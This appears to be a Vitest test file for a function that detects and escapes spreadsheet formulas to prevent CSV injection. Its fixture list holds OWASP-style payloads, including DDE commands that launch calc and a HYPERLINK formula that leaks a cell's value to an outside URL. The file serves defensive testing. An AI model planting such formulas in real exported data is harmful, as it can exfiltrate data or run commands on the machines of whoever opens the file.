import { describe, expect, it } from 'vitest';
import { escapeFormula, isFormula } from './formula-text.ts';

// The payloads of https://owasp.org/www-community/attacks/CSV_Injection and of reports of it, and their full-width forms.
const formulas = [
  '=1+1',
  '=HYPERLINK("https://example.org?leak="&A1,"see")',
  "=cmd|' /C calc'!A0",
  '+cmd|x!A0',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋A1',
  '－A1',
  '＠sum(a1)',
  '+49-170-1234567',
  '-',
  '--',
  '+',
  '-1-2',
  '-e5',
  '-5 %%',
  '-1e',
  `+${'1'.repeat(64)}`,
];
const harmless = [
  '',
  'a=1',
  "'=1",
  ' =1',
  '5',
  '-5',
  '+5',
  '－5',
  '-.5',
  '-5.',
  '+1.234,50',
  '-1,234.50',
  '- 5',
  "-1'234",
  '-1\u00a0234\u202f567',
  '-5%',
  '-5 %',
  '-1.5e-3',
  '-1E5',
  '+49 170 1234567',
  '1+1',
  '(=1)',
];

describe('isFormula', () => {
  it.each(formulas)('%j is one', (text) => {
    expect(isFormula(text)).toBe(true);
    expect(escapeFormula(text)).toBe(`'${text}`);
  });

  it.each(harmless)('%j is none', (text) => {
    expect(isFormula(text)).toBe(false);
    expect(escapeFormula(text)).toBe(text);
  });

  it('never holds of what was escaped', () => {
    for (const text of [...formulas, ...harmless]) expect(isFormula(escapeFormula(text))).toBe(false);
  });

  it('looks at a long text once', () => {
    const text = `+${' '.repeat(1_000_000)}x`;
    const before = performance.now();
    for (let run = 0; run < 1000; run++) isFormula(text);
    expect(performance.now() - before).toBeLessThan(100);
  });
});
